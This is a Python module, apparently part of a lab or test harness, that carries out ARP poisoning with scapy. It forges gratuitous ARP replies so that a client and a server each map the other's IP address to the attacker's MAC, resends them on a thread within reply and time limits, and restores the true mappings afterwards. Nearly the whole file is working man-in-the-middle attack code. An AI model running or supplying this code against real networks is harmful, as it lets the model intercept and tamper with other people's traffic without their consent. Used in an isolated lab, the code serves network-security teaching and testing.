"""ARP poisoning, as arpspoof and bettercap do it: tell each victim that the other's IP address is at
the attacker's MAC, again every `interval` (a cache forgets, and the real host answers too), until told
to stop, and then tell them the truth again. Every loop is bounded in replies and in time.

Every reply is gratuitous in form (the sender's address is also the target's, and so are the MACs),
as ettercap's are: Linux keeps an entry it changed less than `locktime` ago (1 s) against an ordinary
reply, but lets a gratuitous one through at once, so neither the poisoning nor the restore has to wait
that second out. A gratuitous reply still creates no entry (`arp_accept=0`): a cold cache stays cold.

The frames are built apart from the sending (`forged_replies`, `true_replies`), and scapy is imported
only by the code that sends: reading about a poisoning needs no raw socket."""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

if TYPE_CHECKING:
    from scapy.packet import Packet

BROADCAST: Final = "ff:ff:ff:ff:ff:ff"


class PositioningError(Exception):
    """The attacker could not get on the path: what it lacks, in a sentence."""


@dataclass(frozen=True)
class Host:
    ip: str
    mac: str


@dataclass(frozen=True)
class Sent:
    replies: int
    first: float | None
    """Monotonic seconds of the first forged reply, None when none went out."""
    last: float | None
    ended: str
    """Why the loop ended: "stopped", or the bound it reached ("max_replies", "max_seconds")."""


def _gratuitous(victim: Host, ip: str, mac: str, attacker_mac: str) -> Packet:
    """To `victim` alone (unicast), from the attacker: `ip` is at `mac`."""
    from scapy.layers.l2 import ARP, Ether

    return Ether(dst=victim.mac, src=attacker_mac) / ARP(op=2, psrc=ip, hwsrc=mac, pdst=ip, hwdst=mac)


def forged_replies(client: Host, server: Host, attacker_mac: str) -> list[Packet]:
    """To the server: the client is at the attacker's MAC; to the client: the server is. The server
    first: once the client's entry has moved, the server's answers come through the attacker too."""
    return [
        _gratuitous(victim, other.ip, attacker_mac, attacker_mac)
        for victim, other in ((server, client), (client, server))
    ]


def true_replies(client: Host, server: Host, attacker_mac: str) -> list[Packet]:
    """What restores both caches: each victim told the other's real MAC."""
    return [
        _gratuitous(victim, other.ip, other.mac, attacker_mac)
        for victim, other in ((client, server), (server, client))
    ]


def interface_mac(interface: str) -> str:
    try:
        return Path(f"/sys/class/net/{interface}/address").read_text().strip().lower()
    except OSError:
        raise PositioningError(f"no network interface {interface!r} here") from None


def _layer2_socket(interface: str) -> Any:
    from scapy.config import conf

    try:
        return conf.L2socket(iface=interface)
    except PermissionError:
        raise PositioningError(
            "the attacker cannot send raw frames: ARP poisoning needs the NET_RAW capability "
            "(cap_add: NET_RAW in compose; root in a network namespace)"
        ) from None
    except OSError as exc:
        raise PositioningError(f"cannot open a raw socket on {interface}: {exc}") from None


def resolve(interface: str, ip: str, timeout: float = 1.0, tries: int = 3) -> Host:
    """Ask who has `ip` (a broadcast ARP request), as any host does before talking to a neighbour."""
    from scapy.layers.l2 import ARP, Ether
    from scapy.sendrecv import srp1

    mine = interface_mac(interface)
    for _ in range(tries):
        try:
            answer = srp1(
                Ether(dst=BROADCAST, src=mine) / ARP(op=1, pdst=ip, hwsrc=mine),
                iface=interface,
                timeout=timeout,
                verbose=False,
            )
        except PermissionError:
            raise PositioningError("the attacker cannot send raw frames: it needs NET_RAW") from None
        if answer is not None and ARP in answer:
            return Host(ip, str(answer[ARP].hwsrc).lower())
    raise PositioningError(f"nobody on {interface} answers for {ip} (is it up, on this network?)")


class ArpPoisoner:
    """Poison `client` and `server` from a thread until `stop()`, or a bound, ends it."""

    def __init__(
        self,
        interface: str,
        client: Host,
        server: Host,
        *,
        interval: float = 0.5,
        max_replies: int = 1000,
        max_seconds: float = 300.0,
    ) -> None:
        self.interface, self.client, self.server = interface, client, server
        self.mac = interface_mac(interface)
        self.interval, self.max_replies, self.max_seconds = interval, max_replies, max_seconds
        self._socket = _layer2_socket(interface)
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None
        self._sent = Sent(0, None, None, "stopped")

    def start(self) -> None:
        self._thread = threading.Thread(target=self._loop, name="arp-poisoner", daemon=True)
        self._thread.start()

    def stop(self) -> Sent:
        """End the loop (and wait for it) and say what went out; the caches stay poisoned."""
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=self.interval + 5)
        return self._sent

    def restore(self, rounds: int = 3, gap: float = 0.02) -> int:
        """Tell both victims the truth, `rounds` times `gap` seconds apart (a frame can be lost). The
        frames sent."""
        frames = true_replies(self.client, self.server, self.mac)
        sent = 0
        for round_ in range(rounds):
            if round_:
                time.sleep(gap)
            for frame in frames:
                self._socket.send(frame)
                sent += 1
        return sent

    def close(self) -> None:
        self.stop()
        self._socket.close()

    def _loop(self) -> None:
        frames = forged_replies(self.client, self.server, self.mac)
        started = time.monotonic()
        count, first, last, ended = 0, None, None, "stopped"
        while not self._stop.is_set():
            if count >= self.max_replies:
                ended = "max_replies"
                break
            if time.monotonic() - started >= self.max_seconds:
                ended = "max_seconds"
                break
            for frame in frames:
                self._socket.send(frame)
                count += 1
            last = time.monotonic()
            first = first if first is not None else last
            self._sent = Sent(count, first, last, "running")
            self._stop.wait(self.interval)
        self._sent = Sent(count, first, last, ended)
